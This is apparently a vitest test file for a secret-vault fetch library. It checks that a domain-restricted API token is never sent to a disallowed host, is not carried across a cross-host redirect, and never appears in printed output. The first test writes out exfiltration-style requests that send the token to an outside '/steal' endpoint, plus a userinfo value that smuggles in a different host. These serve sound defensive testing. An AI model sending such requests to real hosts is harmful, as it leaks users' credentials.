import { expectNoSecretIn } from "@vaultlink/testkit";
import { describe, expect, it } from "vitest";
import { type FetchOutcome, formatOutcome, type VaultRequest, vaultFetch } from "../src/index.js";
import { everything, secretValue, useTestBed } from "./helpers.js";

describe("a domain-restricted secret", () => {
  const token = secretValue("api-token");
  const open = secretValue("open-value");
  const bed = useTestBed({}, async ({ vault, outside }) => {
    await vault.secrets.add("api-token", { value: token, allowedDomains: ["http://127.0.0.1"] });
    await vault.secrets.add("open", { value: open });
    await vault.secrets.add("userinfo", { value: `u@${new URL(outside.origin).host}/` });
  });
  const send = async (requests: VaultRequest[]): Promise<FetchOutcome[]> => {
    const out: FetchOutcome[] = [];
    for (const r of requests) out.push(await vaultFetch(bed.vault, r));
    return out;
  };

  it("reaches its allowed host and never a host outside its allowed domains", async () => {
    const auth = { Authorization: "Bearer {{vault:api-token}}" };
    const outcomes = await send([
      { url: `${bed.api.origin}/orders`, headers: auth },
      { url: `${bed.outside.origin}/steal`, headers: auth },
      { url: `${bed.outside.origin}/steal?t={{vault:api-token}}` },
      {
        method: "POST",
        url: `${bed.outside.origin}/steal`,
        body: '{"token":"{{vault:api-token}}"}',
      },
      // A value that moves the URL to another host: the URL's secrets are checked again.
      { url: "http://{{vault:userinfo}}@127.0.0.1/x?t={{vault:api-token}}" },
      { url: `${bed.outside.origin}/open`, headers: { "X-Open": "{{vault:open}}" } },
    ]);

    expect(outcomes.map((r) => r.outcome)).toEqual([
      "sent",
      "stopped",
      "stopped",
      "stopped",
      "stopped",
      "sent",
    ]);
    for (const r of outcomes.slice(1, 5)) {
      expect(r.outcome === "stopped" && r.unresolved.map((u) => u.reason)).toEqual([
        "domain-not-allowed",
      ]);
    }
    expect(bed.api.received).toHaveLength(1);
    expect(bed.api.received[0]?.headers.authorization === `Bearer ${token}`).toBe(true);
    // The outside server is reachable and records: it got the unrestricted request only.
    expect(bed.outside.received.map((r) => r.url)).toEqual(["/open"]);
    expect(bed.outside.received[0]?.headers["x-open"] === open).toBe(true);
    expect(everything(bed.outside.received).includes(token)).toBe(false);
    expectNoSecretIn(bed.outside.received, [token], "what the outside server received");
  });

  it("is not carried along a redirect to another host", async () => {
    bed.api.respond("/moved", 307, { location: `${bed.outside.origin}/landing` });
    const [result] = await send([
      {
        method: "POST",
        url: `${bed.api.origin}/moved`,
        headers: { "X-Api-Key": "{{vault:api-token}}" },
        body: "token={{vault:api-token}}",
      },
    ]);

    expect(result?.outcome === "sent" && result.status).toBe(307);
    expect(result?.outcome === "sent" && result.redirectNotFollowed).toBe(
      `${bed.outside.origin}/landing`,
    );
    expect(bed.api.received).toHaveLength(1);
    expect(bed.outside.received).toHaveLength(0);
  });

  it("never shows its value in outcomes or printed output", async () => {
    const requests: VaultRequest[] = [
      { url: `${bed.api.origin}/q?key={{vault:api-token}}` },
      { url: `${bed.api.origin}/h`, headers: { "X-Key": "{{vault:api-token}}" } },
      { url: `${bed.outside.origin}/q?key={{vault:api-token}}` },
      { url: "http://127.0.0.1:1/down?key={{vault:api-token}}" },
    ];
    const outcomes = await send(requests);

    expect(outcomes.map((r) => r.outcome)).toEqual(["sent", "sent", "stopped", "failed"]);
    expect(bed.api.received.map((r) => r.url.includes(token))).toEqual([true, false]);
    const printed = outcomes
      .flatMap((o, i) => formatOutcome(requests[i] as VaultRequest, o))
      .join("\n");
    expect(printed).toContain("{{vault:api-token}}");
    expectNoSecretIn(outcomes, [token], "the outcomes");
    expectNoSecretIn(printed, [token], "the printed output");
  });
});
